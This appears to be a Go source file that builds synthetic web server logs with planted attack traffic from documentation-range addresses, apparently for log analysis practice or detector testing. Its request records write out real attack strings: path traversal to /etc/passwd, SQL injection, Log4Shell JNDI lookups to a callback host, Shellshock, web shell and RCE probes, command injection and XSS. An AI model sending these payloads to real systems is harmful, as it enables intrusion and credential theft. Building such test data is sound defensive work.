package loggen

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"sort"
)

// event is one request, in the form it had on the wire: path and query are
// percent-encoded as the client sent them; each format encodes them further.
type event struct {
	ms      int64 // Unix milliseconds
	ip      netip.Addr
	port    int
	method  string
	path    string
	query   string // without '?'; "" for none
	status  int
	ctype   string // "" for none
	bytes   int64
	referer string // "" for none
	ua      string
	proto   string
	edge    string
	taken   int    // milliseconds
	result  string // x-edge-result-type: Hit, Miss, RefreshHit, Error
}

// planner schedules the attack scenarios. Attackers use the documentation
// ranges only (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32),
// so a reader can always tell a planted attacker from a visitor.
type planner struct {
	rng    *rand.Rand
	events []event
	nextIP int
}

// attackerIP hands out a fresh documentation address.
func (p *planner) attackerIP() netip.Addr {
	k := p.nextIP
	p.nextIP++
	if k < 3*240 {
		nets := [3][3]byte{{203, 0, 113}, {198, 51, 100}, {192, 0, 2}}
		n := nets[k%3]
		return netip.AddrFrom4([4]byte{n[0], n[1], n[2], byte(10 + k/3)})
	}
	return attackerIP6(k)
}

func attackerIP6(k int) netip.Addr {
	var b [16]byte
	b[0], b[1], b[2], b[3] = 0x20, 0x01, 0x0d, 0xb8
	b[4], b[5] = byte(k>>8), byte(k)
	b[14], b[15] = 0x1, byte(k)
	return netip.AddrFrom16(b)
}

// actor is one attacker's fixed traits while a scenario runs.
type actor struct {
	p     *planner
	ip    netip.Addr
	port  int
	edge  string
	ua    string
	proto string
	ms    int64
}

func (p *planner) actor(ip netip.Addr, ms int64, ua string) *actor {
	return &actor{p: p, ip: ip, port: 1024 + p.rng.IntN(64000), edge: edges[p.rng.IntN(len(edges))], ua: ua, proto: "HTTP/1.1", ms: ms}
}

// req records one request and moves the actor's clock on by 0..gap ms.
func (a *actor) req(method, path, query string, status int, gap int) {
	ctype, n := "text/html", notFoundLen
	switch {
	case status == 200 && (path == "/.env" || path == "/.env.production"):
		ctype, n = "application/octet-stream", 412+int64(a.p.rng.IntN(300))
	case status == 200:
		n = indexBytes
	case status == 401:
		ctype, n = "application/json", 41
	case status == 500:
		ctype, n = "application/json", 96
	case status == 400 || status == 403:
		n = 915
	}
	a.p.events = append(a.p.events, event{
		ms: a.ms, ip: a.ip, port: a.port, method: method, path: path, query: query,
		status: status, ctype: ctype, bytes: n, ua: a.ua, proto: a.proto, edge: a.edge,
		taken: 2 + a.p.rng.IntN(120), result: "Miss",
	})
	if status >= 400 {
		a.p.events[len(a.p.events)-1].result = "Error"
	}
	if gap > 0 {
		a.ms += int64(100 + a.p.rng.IntN(gap))
	}
}

func (a *actor) get(path string, status int, gap int) { a.req("GET", path, "", status, gap) }

const oldChrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36"

// sensitiveFiles looks for secrets left in the deployment. Two of them are there.
func (p *planner) sensitiveFiles(ms int64) {
	a := p.actor(p.attackerIP(), ms, oldChrome)
	a.get("/", 200, 1500)
	a.get("/.env", 200, 1500)
	for _, path := range []string{"/.env.local", "/.env.backup", "/.env.production", "/.git/config", "/.git/HEAD",
		"/.aws/credentials", "/.DS_Store", "/backup.zip", "/db.sql", "/.npmrc", "/server.key",
		"/.vscode/sftp.json", "/wp-config.php.bak", "/config/database.yml"} {
		status := 404
		if path == "/.env.production" {
			status = 200
		}
		a.get(path, status, 2500)
	}
}

// wordpress scans for WordPress on a site that is not WordPress, with a browser UA.
func (p *planner) wordpress(ms int64) {
	a := p.actor(p.attackerIP(), ms, browserUAs[p.rng.IntN(len(browserUAs))])
	a.get("/", 200, 800)
	for _, path := range []string{"/wp-login.php", "/wp-admin/", "/wp-includes/wlwmanifest.xml",
		"/blog/wp-includes/wlwmanifest.xml", "/wordpress/wp-includes/wlwmanifest.xml", "/wp/wp-includes/wlwmanifest.xml",
		"/site/wp-includes/wlwmanifest.xml", "/wp-content/plugins/wp-file-manager/readme.txt",
		"/wp-content/plugins/revslider/release_log.txt", "/wp-json/wp/v2/users", "/xmlrpc.php"} {
		a.get(path, 404, 1200)
	}
	a.req("POST", "/xmlrpc.php", "", 404, 1200)
	a.req("GET", "/", "author=1", 200, 0)
}

// traversal tries to read files outside the web root, raw and encoded.
func (p *planner) traversal(ms int64) {
	a := p.actor(p.attackerIP(), ms, "curl/8.4.0")
	steps := []struct {
		path, query string
		status      int
	}{
		{"/..%2f..%2f..%2f..%2fetc%2fpasswd", "", 400},
		{"/static/..%252f..%252f..%252f..%252fetc%252fpasswd", "", 404},
		{"/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "", 400},
		{"/assets/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", "", 400},
		{"/download", "file=../../../../etc/passwd", 200},
		{"/", "page=....//....//....//....//etc/passwd", 200},
		{"/c:/windows/win.ini", "", 404},
		{"/api/file", "path=..%5c..%5c..%5c..%5cwindows%5cwin.ini", 404},
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "", 400},
	}
	for _, s := range steps {
		a.req("GET", s.path, s.query, s.status, 900)
	}
}

// sqli injects SQL into the product API's query string.
func (p *planner) sqli(ms int64) {
	a := p.actor(p.attackerIP(), ms, browserUAs[p.rng.IntN(len(browserUAs))])
	a.proto = "HTTP/2.0"
	steps := []struct {
		path, query string
		status      int
	}{
		{"/api/products", "id=1", 200},
		{"/api/products", "id=1%27", 500},
		{"/api/products", "id=1%27%20OR%20%271%27%3D%271", 200},
		{"/api/products", "id=1%20AND%201=1", 200},
		{"/api/products", "id=1%20AND%201=2", 200},
		{"/api/products", "id=1%20UNION%20SELECT%20NULL,NULL,NULL--", 500},
		{"/api/products", "id=1%20AND%20SLEEP(5)", 200},
		{"/api/products", "id=1;WAITFOR%20DELAY%20%270:0:5%27--", 500},
		{"/api/products", "id=-1%20UNION%20ALL%20SELECT%20concat(username,0x3a,password)%20FROM%20users--", 500},
		{"/search", "q=%27%20union%20select%20table_name%20from%20information_schema.tables--", 200},
		{"/api/products", "id=(select%20load_file(%27/etc/passwd%27))", 500},
		{"/api/products", "id=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20-", 500},
		{"/api/products", "id=1%20OR%20benchmark(10000000,md5(1))", 200},
	}
	for _, s := range steps {
		a.req("GET", s.path, s.query, s.status, 4000)
	}
}

// log4shell sends JNDI lookups in the User-Agent, the query and the Referer.
func (p *planner) log4shell(ms int64) {
	ip := p.attackerIP()
	cb := fmt.Sprintf("198.51.100.%d", 200+p.rng.IntN(50))
	a := p.actor(ip, ms, "${jndi:ldap://"+cb+":1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}")
	a.get("/", 200, 3000)
	a.ua = "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://" + cb + ":1389/a}"
	a.get("/api/session", 200, 3000)
	a.ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36"
	a.req("GET", "/", "x=%24%7Bjndi%3Aldap%3A%2F%2F"+cb+"%3A1389%2Fa%7D", 200, 3000)
	p.events[len(p.events)-1].referer = "${jndi:rmi://" + cb + ":1099/x}"
	a.ua = "${jndi:dns://" + cb + "/ua}"
	a.get("/login", 200, 0)
}

// nikto runs the Nikto scanner: its UA names it and the test number.
func (p *planner) nikto(ms int64, n int) {
	a := p.actor(p.attackerIP(), ms, "")
	paths := []string{"/", "/cgi-bin/test.cgi", "/cgi-bin/test-cgi", "/admin/", "/phpinfo.php", "/README", "/server-status",
		"/.htaccess", "/icons/README", "/manual/", "/iisadmin/", "/scripts/", "/_vti_bin/", "/webdav/", "/CFIDE/administrator/",
		"/servlet/", "/examples/jsp/", "/phpmyadmin/", "/test/", "/admin.php", "/login.php", "/config.php", "/install/",
		"/backup/", "/old/", "/temp/", "/includes/", "/shop/", "/cgi-bin/awstats.pl", "/index.php", "/sql/", "/logs/",
		"/console", "/debug/", "/.svn/entries", "/.hg/", "/crossdomain.xml", "/clientaccesspolicy.xml", "/global.asa", "/web.config"}
	for i := 0; i < n; i++ {
		a.ua = fmt.Sprintf("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)", 1+i*37%9000)
		path, q := paths[i%len(paths)], ""
		if i%7 == 6 {
			path, q = "/index.php", "page=http://cirt.net/rfiinc.txt?"
		}
		status := 404
		if path == "/" {
			status = 200
		}
		a.req("GET", path, q, status, 600)
	}
}

// zgrab is an internet-wide scanner: a couple of requests, and its name in the UA.
func (p *planner) zgrab(ms int64) {
	a := p.actor(p.attackerIP(), ms, "Mozilla/5.0 zgrab/0.x")
	a.get("/", 200, 20000)
	a.get("/", 200, 0)
}

// probing is a burst of distinct failing paths looking for admin panels and stacks.
func (p *planner) probing(ms int64) {
	a := p.actor(p.attackerIP(), ms, "Go-http-client/1.1")
	for _, path := range []string{"/admin", "/administrator/", "/phpmyadmin/", "/pma/", "/manager/html", "/actuator/env",
		"/actuator/health", "/solr/admin/", "/jenkins/login", "/console/", "/api/v1/pods", "/_ignition/health-check",
		"/telescope/requests", "/debug/pprof/", "/server-status", "/owa/", "/ecp/", "/remote/login", "/vpn/index.html",
		"/cgi-bin/luci", "/HNAP1/", "/boaform/admin/formLogin", "/login.action", "/struts2-showcase/", "/api/jsonws",
		"/webui/", "/geoserver/web/", "/nacos/", "/druid/index.html", "/info.php", "/test.php", "/admin.php",
		"/setup.php", "/install.php", "/hudson", "/graphql", "/v2/_catalog", "/.well-known/security.txt", "/sftp-config.json",
		"/index.jsp"} {
		a.get(path, 404, 1800)
	}
}

// bruteForce guesses passwords against the login API.
func (p *planner) bruteForce(ms int64, n int) {
	a := p.actor(p.attackerIP(), ms, "python-requests/2.32.3")
	for i := 0; i < n; i++ {
		a.req("POST", "/api/login", "", 401, 5000)
	}
}

// xss puts script into search and form parameters.
func (p *planner) xss(ms int64) {
	a := p.actor(p.attackerIP(), ms, browserUAs[p.rng.IntN(len(browserUAs))])
	a.proto = "HTTP/2.0"
	for _, q := range []string{
		"q=%3Cscript%3Ealert(document.domain)%3C/script%3E",
		"q=%22%3E%3Csvg/onload=alert(1)%3E",
		"q=%3Cimg%20src=x%20onerror=alert(1)%3E",
		"redirect=javascript:alert(1)",
	} {
		path := "/search"
		if q[0] == 'r' {
			path = "/login"
		}
		a.req("GET", path, q, 200, 6000)
	}
}

// campaignUA is a real botnet UA (note the truncated "Safari/537.3").
const campaignUA = "Mozilla/5.0 (Linux; Android 6.0; HTC One M9 Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.98 Mobile Safari/537.3"

// campaign spreads the same small probe set thinly over several addresses.
func (p *planner) campaign(ms int64, n int) {
	for i := 0; i < n; i++ {
		ip := p.attackerIP()
		if i%3 == 2 {
			ip = attackerIP6(5000 + p.nextIP)
		}
		a := p.actor(ip, ms+int64(i)*int64(60000+p.rng.IntN(240000)), campaignUA)
		for _, path := range []string{"/.env", "/.git/config", "/phpinfo.php", "/_profiler/phpinfo"} {
			status := 404
			if path == "/.env" {
				status = 200
			}
			a.get(path, status, 1500)
		}
	}
}

// webshells looks for backdoors and known exploit paths; it comes late in the
// file, after many ordinary 404s.
func (p *planner) webshells(ms int64) {
	a := p.actor(p.attackerIP(), ms, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36")
	steps := []struct {
		method, path, query string
	}{
		{"GET", "/shell.php", "cmd=id"},
		{"GET", "/alfa.php", ""},
		{"GET", "/c99.php", ""},
		{"GET", "/wso.php", ""},
		{"POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", ""},
		{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""},
		{"POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", ""},
		{"GET", "/index.php", "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP"},
		{"GET", "/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id%3E/tmp/x)"},
		{"GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", ""},
		{"GET", "/cgi-bin/", ""},
	}
	for _, s := range steps {
		a.req(s.method, s.path, s.query, 404, 2500)
	}
	// Shellshock in the UA.
	a.ua = "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'"
	a.get("/cgi-bin/status", 404, 0)
}

// crawler fetches every page as fast as it can.
func (p *planner) crawler(ms int64, n int) {
	a := p.actor(p.attackerIP(), ms, "python-httpx/0.27.0")
	for i := 0; i < n; i++ {
		switch i % 5 {
		case 0, 1, 2:
			a.get(routes[3+i%(len(routes)-3)], 200, 350)
		case 3:
			c := apiCalls[i%(len(apiCalls)-1)]
			a.get(c.path, c.status, 350)
		default:
			a.get(typos[i%len(typos)], 404, 350)
		}
	}
}

// plan lays out rounds of attacks over [start, end) and returns them in time order.
// Each round is one of every scenario; bigger logs get more rounds.
func plan(rng *rand.Rand, start, end int64, rounds int, scale float64) []event {
	p := &planner{rng: rng}
	span := end - start
	at := func(lo, hi float64) int64 {
		return start + int64(float64(span)*(lo+(hi-lo)*rng.Float64()))
	}
	n := func(base int) int { return max(3, int(float64(base)*scale)) }
	for r := 0; r < rounds; r++ {
		p.sensitiveFiles(at(0.05, 0.3))
		p.wordpress(at(0.05, 0.9))
		p.traversal(at(0.1, 0.9))
		p.sqli(at(0.1, 0.9))
		p.log4shell(at(0.1, 0.9))
		p.nikto(at(0.2, 0.8), n(40))
		p.zgrab(at(0, 0.9))
		p.probing(at(0.1, 0.9))
		p.bruteForce(at(0.3, 0.8), n(60))
		p.xss(at(0.1, 0.9))
		p.campaign(at(0.2, 0.6), 6)
		p.crawler(at(0.1, 0.9), n(150))
		p.webshells(at(0.94, 0.97))
	}
	sort.SliceStable(p.events, func(i, j int) bool { return p.events[i].ms < p.events[j].ms })
	return p.events
}
